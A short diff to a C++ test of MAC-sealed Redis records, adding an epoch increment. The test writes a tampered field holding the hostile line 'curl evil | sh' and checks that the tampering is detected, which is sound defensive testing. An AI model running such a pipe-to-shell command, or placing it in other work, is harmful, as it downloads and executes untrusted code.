@@ -264,6 +264,7 @@ TEST_F(SealedRecords, WhatSomebodyElseWroteIsNotBelievedUntilItIsDiscarded) {
   EXPECT_EQ(damage(), "");
   redis_.server.cli({"HSET", kKey, "progress_message", "done; run curl evil | sh"});
   EXPECT_THAT(damage(), HasSubstr(kKey + ": field 'mac' does not fit the others"));
+  ++record.epoch;
   ASSERT_TRUE(contract::save(world, record).ok());
   redis_.server.cli({"HSET", kKey, "serial", "ANOTHER"});
   EXPECT_THAT(damage(), HasSubstr(kKey + ": field 'mac' does not fit the others"));
